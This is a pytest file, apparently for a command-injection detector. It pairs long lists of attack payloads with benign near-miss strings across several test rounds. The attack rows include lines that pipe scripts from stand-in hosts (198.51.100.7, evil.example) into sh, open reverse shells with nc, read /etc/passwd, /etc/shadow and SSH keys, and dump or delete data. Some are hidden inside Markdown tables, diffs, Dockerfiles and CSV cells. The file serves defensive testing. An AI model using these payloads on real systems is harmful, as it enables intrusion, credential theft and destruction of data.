    ("json", "x; mysqldump -u root --all-databases | gzip > /tmp/d.gz"), ("cookie", "x|mysqldump --all-databases"),
    ("form", "Puppet agent run --test --server evil.example every time."), ("form", "Ansible all -m shell -a id"),
    ("json", "| ansible all -m shell -a 'curl 198.51.100.7/x|sh'"), ("query", "ansible localhost -m raw -a whoami"),
    ("form", "Terraform apply fails every time; curl http://198.51.100.7/x.sh | sh"),
    ("form", "Rsync fails every time even though nothing changed.\nid"),
    ("form", "Python fails every time so we run $(curl evil.example/p.sh) first."),
    ("query", "mysqldump backup failed access denied`id`"), ("custom", "Nmap scans fail for the office hosts;nc -e /bin/sh 10.0.0.9 4444"),
    ("form", "Nc 10.0.0.9 4444 connects every time even though the port is closed."),
    ("xml", "Docker run fails for the web container && cat /etc/passwd"), ("multipart", "htpasswd -b /etc/nginx/.htpasswd eve pw"),
    ("form", "Kubectl get secrets -A shows every token, even the old ones."),
    ("query", "crontab failed; crontab -r"), ("cookie", "rsync timeout error|nc 10.0.0.9 4444"),
    # Markdown documents hiding a command after a newline, or code spans that hold a whole attack
    ("form", "## Setup\n\n1. Copy `.env.example` to `.env`\n2. Fill in `DATABASE_URL`\n; curl http://198.51.100.7/x.sh | sh"),
    ("form", "## Notes\n\nRun the app.\nid"), ("form", "# Install\n\n1. Run `make`\n2. Done\n`id`"),
    ("form", "`id`"), ("json", "`cat /etc/passwd`"), ("form", "## Setup\n$(curl -s evil.example/i.sh | bash)"),
    ("form", "1. Copy the file\n2. Run it\n&& wget http://198.51.100.7/a -O /tmp/a"),
    ("form", "| Function | Result |\n|---|---|\n| x; id | 7 |"), ("form", "| Name | Value |\n|---|---|\n| $(whoami) | 1 |"),
    ("form", "|---|---|\n| a | b |\n|id"), ("form", "| a | b |\n|---|---|\n| c | d |\nid"),
    ("form", "| Step | Command |\n|---|---|\n| 1 | x && cat /etc/shadow |"),
    ("form", "Name | Role\n--- | ---\nid; uname -a | admin"), ("query", "|---| ; id"),
    ("form", "| `id` |\n`whoami`"), ("form", "| a |\n| `id` |"),
    # `|`-joined lists whose items are command lines or probes
    ("cookie", "winget|whoami|vpn disconnects"), ("cookie", "printer|sh|vpn drops"),
    ("cookie", "vpn|nc 10.0.0.5 4444|wifi"), ("query", "x|mysqldump --all-databases|y"),
    ("cookie", "winget|bash|vpn drops"), ("query", "a|id"), ("form", ";ls -la"), ("cookie", "outlook|uname -a|wifi"),
    ("cookie", "mysqldump|id|vpn disconnects"), ("json", "winget|mysqldump|cat /etc/passwd"),
    ("cookie", "printer offline|python -c 'import os'|wifi drops"), ("cookie", "htpasswd|xargs|printer offline"),
    ("query", "mysqldump|crontab|backup failed"), ("cookie", "vpn drops|mysqldump|$(id)"),
]
ROUND4_BENIGN: list[tuple[str, str]] = [
    # trouble reports and sentences that begin with a tool's name
    ("query", "pg_dump restore failed permission denied"), ("query", "mysqldump error 1045 access denied"),
    ("query", "rsync connection refused port 22"), ("query", "htpasswd authentication failed nginx"),
    ("query", "openssl handshake failure"), ("query", "mysqldump hangs on large table"),
    ("query", "kubectl timeout waiting for condition"), ("query", "crontab job not running"),
    ("query", "tcpdump permission denied"), ("query", "htpasswd file missing"), ("query", "svnadmin dump slow"),
    ("form", "Terraform apply keeps failing on the state lock, even though nobody else is running it."),
    ("form", "Kubectl logs shows nothing for the crashed pod after every restart."),
    ("form", "Docker build fails at 'npm ci' on the ARM runners only."),
    ("form", "Rsync copies every file again each night, although nothing has changed."),
    ("form", "Mysqldump takes hours on the production replica but only minutes on staging."),
    ("json", "Curl returns 403 for our own API when the VPN is on."),
    ("form", "Nmap shows port 443 as filtered on the office network but open at home!"),
    ("form", "Crontab entries vanish after every reboot, why?"),
    ("form", "Htop shows 100% CPU on one core while the app is idle."),
    ("form", "Puppet agent reports the same 3 resources as changed on every single run."),
    ("json", "Ansible playbook skips the 'Install packages' task for the Ubuntu hosts."),
    ("form", "Tcpdump captures nothing on the bridge interface even though traffic flows."),
    ("form", "Gpg asks for the passphrase every time although the agent is running."),
    # Markdown documents: headings, numbered and bulleted lists, quotes and tables around code spans
    ("form", "# Install\n\n1. Clone the repository\n2. Run `make build` in the root\n3. Open the dashboard in a browser"),
    ("form", "### Usage\n\n- Start the worker with `celery -A app worker`\n- Stop it with `Ctrl+C` when you are done"),
    ("form", "## Troubleshooting\n\n* If `docker ps` shows nothing, restart Docker Desktop\n* Check the file `config.json` for typos"),
    ("form", "> **Note:** run `git pull` before you `git push` to the main branch"),
    ("form", "## Deploy\n\n1. Bump the version in `package.json`\n2. Tag the release with `git tag v1.2.0`\n3. Push the tag"),
    ("form", "| Command | What it does |\n|---|---|\n| `ls -la` | list all files |\n| `pwd` | print the directory |"),
    ("form", "| Shortcut | Action |\n| :--- | ---: |\n| Ctrl + C | copy |\n| Ctrl + V | paste |"),
    ("form", "| Plan | Price | Seats |\n|------|-------|-------|\n| Free | $0 | 1 |\n| Pro | $12 | 5 |"),
    ("form", "| Function | Result |\n|---|---|\n| `abs(-4)` | 4 |\n| `round(2.5)` | 2 |"),
    ("form", "| Setting | Default |\n|---|---|\n| `timeout` | 30 |\n| `retries` | 3 |"),
    ("form", "| Field | Type |\n|:--|:--|\n| id | integer |\n| who | text |\n| date | timestamp |"),
    ("form", "Compare the plans:\n\n| Tier | Storage |\n|---|---|\n| Basic | 10 GB |\n| Team | 1 TB |"),
    ("json", "| Key | Meaning |\n|---|---|\n| `Ctrl+Z` | undo |\n| `Ctrl+Y` | redo |"),
    # `|`-joined lists of recent searches and tags, some of them a tool's name
    ("cookie", "htpasswd|printer offline|outlook keeps crashing"),
    ("cookie", "rsync|password reset|wifi drops"), ("query", "tcpdump|wireshark|packet loss on vpn"),
    ("cookie", "nmap|port scan policy|firewall rules"), ("form", "svnadmin|git lfs|large files"),
    ("cookie", "cron schedule|htpasswd|disk full"), ("cookie", "mysqldump|backups|disaster recovery"),
    ("cookie", "pg_dump|mysqldump|restore takes hours"),
]


def test_round4_sets_are_distinct():
    assert len(set(ROUND4_ATTACKS)) == len(ROUND4_ATTACKS) >= 45
    assert len(set(ROUND4_BENIGN)) == len(ROUND4_BENIGN) >= 40
    assert not set(ROUND4_BENIGN) & set(BENIGN + CLASS_BENIGN + GTFO_LOLBAS_BENIGN + POC_BENIGN + ROUND3_BENIGN)


def test_markdown_tables_become_cells_out_of_command_position():
    t = rce._md_tables("intro\n| Name | Cmd |\n|:--|--:|\n| a | `id` |\n| b \\| c | x; id |\nid")
    assert t.split("\n")[0] == "intro" and t.split("\n")[-1] == "id"  # lines around the table stay
    assert [ln for ln in t.split("\n")[1:-1]] == [rce._TABLE_MARK + c for c in ("Name", "Cmd", "a", "`id`", "b \\| c", "x; id")]
    # no delimiter row, a header without both pipes, or a column count that differs: no table
    for v in ("| a | b |\n| c | d |", "a | b\n|---|---|", "| a | b |\n|---|", "|---|---|\n| a | b |"):
        assert rce._md_tables(v) == v


@pytest.mark.parametrize("value,want", [
    ("Puppet agent run reports 12 changes every time even though nothing changed.", True),
    ("Docker build fails at 'npm ci' on the ARM runners only.", True),
    ("puppet agent run reports 12 changes every time even though nothing changed.", False),  # no capital
    ("Puppet agent run reports 12 changes every time even though nothing changed", False),  # no full stop
    ("Ansible all -m shell -a id for the hosts.", False), ("Curl http://e.example/x for every host.", False),
    ("Python3 manage.py runserver for the app every time.", False), ("Nmap scans hosts fast.", False),
])
def test_sentence_shape(value, want):
    assert rce._sentence(value) is want


# Each list above is one batch of the round it came from (first-pass numbers were taken per batch; round 3 used CRS
# 4.25's 932 file as the checklist); every attack must raise an rce finding and every near-miss must leave the whole
# request clean.
ALL_ATTACKS = ATTACKS + CLASS_ROWS + GTFO_LOLBAS_ATTACKS + POC_ATTACKS + ROUND3_ATTACKS + ROUND4_ATTACKS
ALL_BENIGN = BENIGN + CLASS_BENIGN + GTFO_LOLBAS_BENIGN + POC_BENIGN + ROUND3_BENIGN + ROUND4_BENIGN


@pytest.mark.parametrize("row", ALL_ATTACKS, ids=_label)
def test_command_injection_is_caught(engine, row):
    hits = engine.inspect(carry(*row))
    assert verdict(hits) == "attack", hits
    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits


@pytest.mark.parametrize("row", ALL_BENIGN, ids=_label)
def test_benign_near_miss_is_clean(engine, row):
    hits = engine.inspect(carry(*row))
    assert verdict(hits) == "clean", hits


# Round 5 (issue #4, the rce false positives of the blind benign batch): text that reads like a command line to a
# tokenizer although a shell would not run it as written — a title naming a tool and its version before a colon, inline
# code spans in a sentence with contractions or beside code blocks, a unified diff, a Dockerfile line whose upper-case
# instruction fails before its `&&` chain, a traceback's capitalised `File` lines, query languages whose operators follow
# `|`, spreadsheet formulas, package directories, a script's own arithmetic — each beside attacks of the same shape.
# Written before the round-5 changes to rce.py (the blind values themselves are not here); see the round-5 report for the
# first pass. Benign rows are asserted to raise no rce finding (the SQL and KQL ones still meet sqli's rules, another
# detector's business).
ROUND5_ATTACKS: list[tuple[str, str]] = [
    # tool + version + colon, then options, paths, addresses or separators
    ("form", "PHP 8.2: -r 'system(\"id\");'"), ("json", "Python 3: -c 'import os;os.system(\"id\")'"),
    ("form", "Perl 5: -e 'exec \"/bin/sh\"' for the model"), ("query", "Curl 8.5: http://198.51.100.7/x.sh -o /tmp/x.sh and run it"),
    ("form", "Nc 10: 198.51.100.7 4444 -e /bin/sh in a Laravel model"), ("json", "Bash 5: /tmp/x.sh is what we run in a model"),
    ("form", "PHP 8.2: creation of dynamic property is deprecated; id"),
    ("form", "Python 3.12: what is new in the typing module | sh"),
    # code spans in sentences that hold a whole attack, or spans alone beside code blocks
    ("form", "nit: prefer `curl http://198.51.100.7/x|sh` over `let` here, it's fine."), ("form", "it is `$(id)` here, do not worry"),
    ("json", "it's `$(id)` here, don't worry"), ("form", "we're fine: $(sleep 10) isn't it"), ("query", "o'brien`id`o'hara"),
    ("form", "```\nok\n```\n`id`"), ("json", "don't `cat /etc/passwd; id` here"), ("form", "prefer `const`; id"),
    ("form", "it's `let`\nwhoami"),
    # unified diffs with a command on a line of its own, in a header, in a substitution or on a context line
    ("form", "diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\nid"),
    ("json", "diff --git a/x b/x; curl http://198.51.100.7/x.sh | sh\n@@ -1 +1 @@\n-a\n+b"),
    ("form", "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+$(curl http://198.51.100.7/x.sh | sh)"),
    ("json", "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+`id`"),
    ("form", "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n cat /etc/passwd\n-a\n+b"),
    ("form", "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n;nc 198.51.100.7 4444 -e /bin/sh"),
    ("json", "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n+b && wget http://198.51.100.7/a -O /tmp/a"),
    # an upper-case instruction line: `;`, `||`, `|`, `&`, a new line or a substitution still run
    ("form", "Dockerfile:\n\n    RUN apt-get update; curl http://198.51.100.7/x.sh | sh"),
    ("form", "Dockerfile:\nRUN true || wget http://198.51.100.7/a -O /tmp/a"), ("form", "Dockerfile:\nRUN x && y\nid"),
    ("form", "RUN apt-get update && cat /etc/passwd"), ("form", "notes\n    CMD && whoami"),
    ("json", "notes\nRUN x && $(curl http://198.51.100.7/x.sh)"), ("form", "notes\nRUN x && y & nc 198.51.100.7 4444 -e /bin/sh"),
    ("form", "notes\nRUN x && y | sh"), ("form", "notes\ntrue ||\nXX && id"), ("json", "notes\necho \\\nRUN x && id"),
    # fenced code runs too: three backticks are an empty substitution and the start of one (the chat message with a
    # fenced `kubectl rollout restart` and the forum post looping over `$(ls *.mp3)` stay flagged for this reason)
    ("form", "```\ncurl -o /tmp/x http://198.51.100.7/x\n```\nthat fixed it"),
    ("json", "```\nkubectl delete namespace payments --wait=false\n```\nthat fixed it"),
    ("form", "My script hangs:\n\n```bash\nfor f in $(sleep 10); do\n  echo \"$f\"\ndone\n```\n\nany idea?"),
    ("form", "Loop question:\n\n```bash\nfor u in $(cat /etc/passwd); do\n  echo $u\ndone\n```"),
    # traceback-like lines: lower-case or Windows/PowerShell names, and commands on their own lines
    ("form", "Traceback (most recent call last):\n  file \"/etc/passwd\", line 1\nid"),
    ("form", "Error:\n  File \"/x.py\", line 1, in <module>\n  cat /etc/passwd"),
    ("json", "Error:\n  File \"/x.py\", line 1; curl http://198.51.100.7/x.sh | sh"), ("form", "Error:\n  Find / -name id_rsa"),
    ("form", "Error:\n  Sleep 10"), ("form", "Error:\n  Cat /etc/passwd"), ("form", "Error:\n  File x; id"),
    # query pipelines that end in a program, read files, write files or run substitutions
    ("json", "requests | where timestamp > ago(1h) | summarize count() | sh"),
    ("form", "index=web | stats count by uri_path | sort -count; curl http://198.51.100.7/x.sh | sh"),
    ("query", "AppExceptions | take 10 | nc 198.51.100.7 4444 -e /bin/sh"),
    ("form", "index=web | stats count | tail -n 5 /etc/passwd"), ("json", "requests | project name | sort -o /var/www/html/x.php"),
    ("form", "index=web | head 5 | xargs rm -rf /"), ("json", "requests | where x > 1 $(whoami)"),
    ("query", "search index=web | stats count | sort -count\nid"), ("form", "traces | summarize count() | where x > /tmp/out"),
    ("form", "x\nwhere /r c:\\ web.config"),
    # spreadsheet formulas that pipe, chain or substitute
    ("json", "=LET(net, 1, net)|sh"), ("json", "=SUM(1);curl http://198.51.100.7/x.sh|sh"),
    ("json", "=LET(x, 1, x)\nnet user eve P@ss /add"), ("json", "=IF(1,1)`whoami`"), ("json", "=SUM(1) && (whoami)"),
    ("json", "=SUM(1) (whoami)"), ("form", "=system(whoami)"),
    # programs in temporary or bin folders, chained after a package directory, or reached through it
    ("json", "/tmp/nc"), ("query", "/dev/shm/bash"), ("form", "/usr/bin/php"), ("json", "/var/tmp/ncat"),
    ("form", "/var/lib/mysql;id"), ("json", "/var/lib/docker/../../../usr/bin/nc"), ("form", "/etc/init.d/ssh"),
    # arithmetic on literals (the shell's math probe), on names nothing assigned, or around a substitution
    ("form", "$((7*7))"), ("json", "x$((1337*1337))"), ("query", "$[7*7]"), ("form", "count=0\n$((count + $(id)))"),
    ("json", "$((x))"), ("form", "def run(cmd):\n    pass\n;id"), ("json", "if(id)then :;fi"), ("form", "x;echo(whoami)"),
    ("json", "@(whoami)"), ("form", "os.popen(id)"), ("query", "passthru(ls)"), ("json", "child_process.execSync(whoami)"),
]
ROUND5_BENIGN: list[tuple[str, str]] = [
    # titles: a tool and its version before a colon, then a phrase
    ("form", "PHP 8.3: readonly classes break our Doctrine proxies in production"),
    ("form", "Python 3.12: f-string parsing changed and my old code is now a syntax error"),
    ("query", "Node 20: fetch fails with a certificate error behind the corporate proxy"),
    ("json", "Ruby 3.3: YJIT is on by default, so should we turn it off for the workers"),
    ("form", "Perl 5.38: the class feature is experimental and warns on every run"),
    ("form", "Java 21: virtual threads pin the carrier thread in a synchronized block"),
    ("json", "Curl 8.5: downloads stall at the end of every large file"),
    # inline code spans in sentences with contractions, or beside fenced and indented code blocks
    ("form", "nit: `set` isn't needed here, it's the default."), ("json", "I'd use `let` instead of `var` so it's block scoped."),
    ("form", "Don't call `exit` in a library, it's the caller's decision."),
    ("form", "We're calling `sort` twice here, can't we sort once?"),
    ("form", "Why does this fail?\n\n```yaml\nretries: 3\n```\n\nI ran `make` and `ls` shows nothing new."),
    ("json", "It's `true` in staging but `false` in prod, that's why the flag didn't flip."),
    ("form", "You'll want `wait` here, otherwise the shell doesn't block on the children."),
    # unified diffs
    ("form", "diff --git a/app/main.py b/app/main.py\nindex 4e1a2b3..9c8d7e6 100644\n--- a/app/main.py\n+++ b/app/main.py\n"
             "@@ -1,4 +1,4 @@\n-import json\n+import orjson as json\n \n def load(path):\n-    return json.load(open(path))\n+    return json.loads(open(path, 'rb').read())\n"),
    ("json", "--- a.txt\t2024-01-01 10:00:00\n+++ b.txt\t2024-01-02 10:00:00\n@@ -1,3 +1,3 @@\n-cat\n+dog\n bird\n"),
    ("form", "diff --git a/web/app.js b/web/app.js\nindex 0a1b2c3..3c2b1a0 100644\n--- a/web/app.js\n+++ b/web/app.js\n"
             "@@ -10,3 +10,3 @@ export async function load() {\n-  const res = await fetch(url)\n+  const res = await fetch(url, { cache: 'no-store' })\n   return res.json()\n"),
    ("json", "diff --git a/.env.example b/.env.example\nnew file mode 100644\nindex 0000000..e69de29\n--- /dev/null\n"
             "+++ b/.env.example\n@@ -0,0 +1,2 @@\n+DATABASE_URL=postgres://localhost/app\n+PORT=8080\n"),
    ("form", "diff -u old/config.yml new/config.yml\n--- old/config.yml\n+++ new/config.yml\n@@ -2,2 +2,2 @@\n-timeout: 30\n+timeout: 60\n retries: 3\n"),
    # Dockerfile lines in posts: the upper-case instruction fails, so its `&&` chain never runs
    ("form", "Our Dockerfile:\n\n    FROM python:3.12-slim\n    RUN pip install -r requirements.txt && rm -rf /root/.cache\n\n"
             "Is `--no-cache-dir` better than the `rm` here? The image is still 900 MB."),
    ("form", "Build fails at this step:\n\nRUN npm ci && npm run build && npm prune --production\n\nany idea?"),
    ("json", "Dockerfile snippet:\nRUN apk add --no-cache git && git config --global advice.detachedHead false"),
    ("form", "Containerfile:\n\n    RUN dnf -y install httpd && dnf clean all\n    EXPOSE 80"),
    ("form", "In the build we use\n\n    RUN go build -o /out/app ./cmd/app && strip /out/app\n\nand it takes ages."),
    # tracebacks and lines that begin with a capitalised English word that is also a tool's name
    ("form", "Error on startup:\n\nTraceback (most recent call last):\n  File \"/srv/app/manage.py\", line 22, in <module>\n"
             "    main()\n  File \"/srv/app/manage.py\", line 18, in main\n    execute_from_command_line(sys.argv)\n"
             "ModuleNotFoundError: No module named 'django'"),
    ("json", "Crash report\n  File \"/usr/lib/python3/dist-packages/apt/cache.py\", line 170, in open\n    self._cache = apt_pkg.Cache(progress)"),
    ("form", "Release notes\nTouch targets are bigger on /settings and /profile"),
    ("form", "Checklist:\nHead of /api/v1/orders returns 404 now"),
    # query languages with pipes (KQL, SPL, LogQL, ES|QL) and SQL clauses on their own lines
    ("json", "traces | where duration > 1s | summarize avg(duration) by operation_Name | sort by avg_duration desc"),
    ("query", "index=main sourcetype=syslog error | stats count by host | sort -count | head 10"),
    ("form", "StormEvents | where State == \"TEXAS\" | project StartTime, EventType | take 10"),
    ("json", "FROM logs-* | WHERE http.response.status_code >= 500 | STATS c = COUNT(*) BY url.path | SORT c DESC | LIMIT 10"),
    ("form", "sourcetype=access_combined | timechart span=1h count by status | tail 24"),
    ("json", "SecurityEvent | where EventID == 4625 | summarize failures = count() by Account | top 5 by failures"),
    ("json", "SELECT id, email\nFROM users\nWHERE created_at >= '2024-01-01'\nORDER BY id"),
    ("form", "UPDATE orders\nSET status = 'shipped'\nWHERE id > 100"),
    # spreadsheet formulas whose arguments are named like programs
    ("json", "=LET(ip, A2, IF(ip=\"\", \"n/a\", ip))"), ("json", "=SUMIF(ps, \">0\")"),
    ("json", "=LET(net, SUM(B2:B9), tax, net*0.2, net+tax)"), ("json", "=IF(ISBLANK(who), \"unassigned\", who)"),
    ("json", "=LAMBDA(id, XLOOKUP(id, Ids!A:A, Ids!B:B))"), ("json", "=VLOOKUP(id, Users!A:C, 3, FALSE)"),
    # directories named after a package where state and configuration live
    ("json", "/var/lib/docker"), ("query", "/var/lib/redis/"), ("form", "/var/log/mysql"), ("json", "/var/cache/nmap"),
    ("json", "/srv/rsync"), ("form", "/var/lib/php"), ("cookie", "/home/git"),
    # a script's own arithmetic on names it assigned
    ("json", "#!/bin/sh\ni=0\nwhile [ $i -lt 5 ]; do\n  i=$((i + 1))\ndone"),
    ("json", "#!/bin/bash\ntotal=0\nfor n in 1 2 3; do\n  total=$((total + n))\ndone"),
    ("json", "#!/bin/bash\nn=10\nhalf=$((n / 2))"), ("json", "count=0\nmax=5\nleft=$((max - count))"),
]


def test_round5_sets_are_distinct():
    assert len(set(ROUND5_ATTACKS)) == len(ROUND5_ATTACKS) >= 60
    assert len(set(ROUND5_BENIGN)) == len(ROUND5_BENIGN) >= 50
    assert not set(ROUND5_BENIGN) & set(ALL_BENIGN) and not set(ROUND5_ATTACKS) & set(ALL_ATTACKS)


# Round 6 (issue #4, the rce false positives of the second blind benign batch): text built from shell-looking pieces
# that a shell would not run as a command — lists of skills and technologies with slashes, dots and parenthesised
# notes, `;`- and `|`-separated CSV exports, a name and a path joined by `|` in a cookie, MediaWiki tables (`{|`, `!!`,
# `||` cells) and templates (`{{#if:`, `{{{param|}}}`), `${name}` placeholders in translated sentences, Dockerfiles sent
# whole, config directives named like builtins in a diff's context, exec calls on a variable named `cmd` — each beside
# attacks of the same shape. The blind values themselves are not here. Measured with the rce.py of before round 6: 52/52
# attacks caught, 33/37 benign flagged (the cmd rows and the `sleep 5`/`Ping`/`${SHELL}` attacks were added while
# fixing, and measured on that code too). Scripts written to run (notebook shell cells, CI jobs, package.json scripts,
# fenced shell) stay flagged: concatenated into a shell they run as written.
ROUND6_ATTACKS: list[tuple[str, str]] = [
    # lists of names in which one item is a probe, a path or a command line
    ("form", "Python; SQL (PostgreSQL, T-SQL); whoami"), ("form", "Java; C/C++; Go; cat /etc/passwd"),
    ("json", "Go; .NET; Node.js; id"), ("form", "Rust; HTML/CSS; bin/sh"),
    ("form", "Perl; Ruby (Rails); wget http://198.51.100.7/x.sh -O /tmp/x.sh"),
    ("form", "Bash; C/C++; curl 198.51.100.7/x.sh|sh"), ("query", "Kotlin; Swift (iOS); uname -a"),
    # delimited exports with a command, a substitution or a pipe in a cell, or a probe as a lower-case header
    ("json", "Date;Description;Amount\n01.06.2024;whoami;-85,00\n02.06.2024;Rent;-900,00"),
    ("form", "Date;Description;Amount\n01.06.2024;$(id);-85,00\n02.06.2024;Rent;-900,00"),
    ("form", "Date;Description;Amount\n01.06.2024;`id`;-85,00\n02.06.2024;Rent;-900,00"),
    ("json", "Date;Description;Amount\n01.06.2024;curl http://198.51.100.7/x.sh|sh;1\n02.06.2024;Rent;2"),
    ("form", "id;name;email\n1;alice;alice@example.com\n2;bob;bob@example.com"),
    ("json", "Name;Note;Qty\nWidget;cat /etc/passwd;3\nGadget;ok;4"),
    ("form", "Whoami;Host;Port\nweb;10.0.0.5;80\ndb;10.0.0.6;5432"),
    ("json", "Date|Description|Amount\n2024-06-01|nc 198.51.100.7 4444 -e /bin/sh|1\n2024-06-02|Rent|2"),
    ("form", "Date;Name;Amount\n01.06.2024;sleep 5;1\n02.06.2024;Rent;2"),
    ("json", "Time;Host;Status\n12:00;Ping -n 9 198.51.100.7;OK\n12:01;web-02;OK"),
    # a tool piped into a program in a system or upload directory
    ("cookie", "python3|/tmp/x.py"), ("cookie", "perl|/home/www/uploads/s.pl"), ("form", "id|/bin/sh"),
    ("json", "php|/var/tmp/a"), ("cookie", "node|/dev/shm/x.js"), ("form", "bash|/usr/bin/nc -e /bin/sh 198.51.100.7 4444"),
    # wiki markup that carries a command line where a shell still runs it
    ("form", "{| class=\"wikitable\"\n|-\n| $(id) || x\n|}"), ("form", "{| class=\"wikitable\"\n|-\n| x; id || y\n|}"),
    ("form", "x; id\n{| class=\"wikitable\"\n|-\n| a || b\n|}"), ("json", "{{#if: x | y }}\n;cat /etc/passwd"),
    ("form", "{{{image|}}}; curl http://198.51.100.7/x.sh | sh"), ("form", "{{Infobox|name=`whoami`}}"),
    ("json", "{{#switch: x | a = $(uname -a) }}"), ("form", "!!; id"),
    # placeholders beside commands, or named for the shell and alone
    ("form", "${PATH}"), ("json", "echo ${HOME}"), ("form", "cat ${HOME}/.ssh/id_rsa"), ("json", "${SHELL} -c id"),
    ("form", "${user} ; id"), ("json", "${USER} $(whoami)"),
    ("form", "${SHELL} hello world"), ("json", "${bash} hat ${item} gekauft"),
    # Dockerfiles with a command after `;`, `|`, `||`, on a plain line or in a substitution
    ("form", "FROM alpine:3.19\nRUN apk add curl; curl http://198.51.100.7/x.sh | sh"),
    ("json", "FROM alpine:3.19\nCOPY . /app\nRUN true || wget http://198.51.100.7/a -O /tmp/a"),
    ("form", "FROM alpine:3.19\nWORKDIR /app\nid"), ("json", "FROM alpine:3.19\nCOPY $(whoami) /app"),
    ("form", "FROM alpine:3.19\nCMD nc 198.51.100.7 4444 -e /bin/sh"),
    ("form", "FROM alpine:3.19\nEXPOSE 80\ncat /etc/passwd"),
    # builtins and commands on a diff's context lines
    ("form", "--- a/x.conf\n+++ b/x.conf\n@@ -1,2 +1,2 @@\n alias ls='rm -rf /'\n-a\n+b"),
    ("json", "--- a/x.conf\n+++ b/x.conf\n@@ -1,2 +1,2 @@\n cat /etc/passwd\n-a\n+b"),
    ("form", "--- a/x.conf\n+++ b/x.conf\n@@ -1,2 +1,2 @@\n alias\n-a\n+b"), ("form", "x;alias"),
    # cmd.exe given a command to run inside a language's exec call
    ("form", "system(cmd /k whoami)"), ("json", "shell_exec(cmd /c type C:\\secret.txt)"), ("form", "exec(cmd.exe /c calc)"),
]
ROUND6_BENIGN: list[tuple[str, str]] = [
    # lists of skills and technologies
    ("form", "Go; Rust; C/C++; Python (Django, FastAPI); Docker; Kubernetes"),
    ("form", "Java | Kotlin (Android) | Swift | SQL | CI/CD | Git"),
    ("json", "Bash; PowerShell; Terraform; Ansible; AWS (EC2, S3, IAM); TCP/IP"),
    ("form", "C#; .NET 8; ASP.NET; Azure (Functions, Cosmos DB); T-SQL; UI/UX"),
    ("query", "Ruby; Rails; PostgreSQL; Redis; Sidekiq; HTML/CSS; A/B testing"),
    ("form", "Perl; Python; Node.js; Vue.js (Nuxt); GraphQL; REST"),
    # `;`- and `|`-separated CSV exports
    ("json", "Datum;Buchungstext;Betrag;Saldo\n02.05.2024;\"Miete Mai; Wohnung 3\";-950,00;1.204,10\n"
             "03.05.2024;\"Lohn\";2.800,00;4.004,10\n"),
    ("form", "Date;Type;Amount;Currency\n2024-06-01;Card;-12,50;EUR\n2024-06-02;Transfer;250,00;EUR\n"),
    ("json", "Id;Name;Email;Country\n1;Anna Schmidt;anna@example.de;DE\n2;Jan de Vries;jan@example.nl;NL\n"),
    ("form", "Time;Host;Status;Latency (ms)\n12:00:01;web-01;OK;42\n12:00:02;web-02;DEGRADED;380\n"),
    ("json", "Date|Description|Amount|Balance\n2024-06-01|Coffee Shop|-3.80|1204.10\n2024-06-02|Salary|2800.00|4004.10\n"),
    ("form", "File;Size;Modified\nreport.pdf;1,2 MB;01.06.2024\nslides.pptx;8,4 MB;02.06.2024\n"),
    # a name and a path joined by `|` in a cookie or setting
    ("cookie", "python3|/user/anna/lab/tree/projects/forecast"), ("cookie", "node|/projects/web/dashboard"),
    ("cookie", "ruby|/notebooks/2024/churn"), ("cookie", "perl|/workspace/scripts/report"),
    # MediaWiki tables and templates
    ("form", "{| class=\"wikitable\"\n|+ Results\n|-\n! Date !! Opponent !! Score\n|-\n| 2024-05-01 || [[FC Utrecht|Utrecht]] || 2–1\n|}"),
    ("form", "{| class=\"wikitable sortable\"\n! Name !! Type !! Size\n|-\n| id || integer || 4\n|-\n| who || text || 255\n|}"),
    ("form", "{{Infobox person\n| name = {{{name|}}}\n| image = {{{image|}}}\n| birth_date = {{Birth date|1950|1|1}}\n}}"),
    ("form", "{{#if: {{{caption|}}} | {{{caption}}} | No caption }}\n{{#ifeq: {{{type}}} | list | Listed | Unlisted }}"),
    ("form", "{{#switch: {{{lang}}}\n | de = Deutsch\n | nl = Nederlands\n | #default = English\n}}"),
    ("form", "{{Sort|2024|June 2024}} and {{Date|2024-06-01}} are used in the list."),
    # placeholders in translated and templated sentences
    ("json", "${user} さんが ${count} 件のコメントを追加しました"), ("json", "${user} hat ${item} gekauft"),
    ("json", "Bonjour ${user}, votre commande ${order} est expédiée"), ("json", "${home} стала домашней страницей"),
    ("json", "Hello ${user}, welcome back!"),
    # Dockerfiles sent whole
    ("form", "FROM python:3.12-slim\nWORKDIR /srv\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\nCOPY . .\n"
             "CMD [\"gunicorn\", \"app:app\"]\n"),
    ("json", "# syntax=docker/dockerfile:1\nARG GO_VERSION=1.22\nFROM golang:${GO_VERSION} AS build\nWORKDIR /src\nCOPY . .\n"
             "RUN go build -o /out/app ./cmd/app\n\nFROM gcr.io/distroless/static\nCOPY --from=build /out/app /app\n"
             "USER nonroot\nENTRYPOINT [\"/app\"]\n"),
    ("form", "FROM nginx:1.27-alpine\nCOPY nginx.conf /etc/nginx/nginx.conf\nCOPY dist/ /usr/share/nginx/html/\nEXPOSE 8080\n"),
    ("json", "FROM eclipse-temurin:21-jre\nENV JAVA_OPTS=\"-Xmx512m\"\nCOPY target/app.jar /app.jar\nEXPOSE 8080\n"
             "CMD java $JAVA_OPTS -jar /app.jar\n"),
    # diffs of configuration files whose directives are named like shell builtins
    ("json", "--- a/nginx/site.conf\n+++ b/nginx/site.conf\n@@ -8,5 +8,6 @@ server {\n     location /media/ {\n"
             "         alias /var/www/media/;\n+        expires 7d;\n     }\n"),
    ("form", "--- a/conf/httpd.conf\n+++ b/conf/httpd.conf\n@@ -1,3 +1,3 @@\n alias /icons/ /usr/share/httpd/icons/\n"
             "-Listen 80\n+Listen 8080\n"),
    # questions about exec calls on the variable code names its command line
    ("json", "os.system(cmd) returns 256, what does that mean?"),
    ("form", "subprocess.check_output(cmd, shell=True) hangs on Windows"),
    ("form", "Why does exec(cmd) block forever in my PHP worker?"),
    ("json", "The run(cmd, timeout=30) helper kills the child after thirty seconds"),
]


def test_round6_sets_are_distinct():
    assert len(set(ROUND6_ATTACKS)) == len(ROUND6_ATTACKS) >= 40
    assert len(set(ROUND6_BENIGN)) == len(ROUND6_BENIGN) >= 30
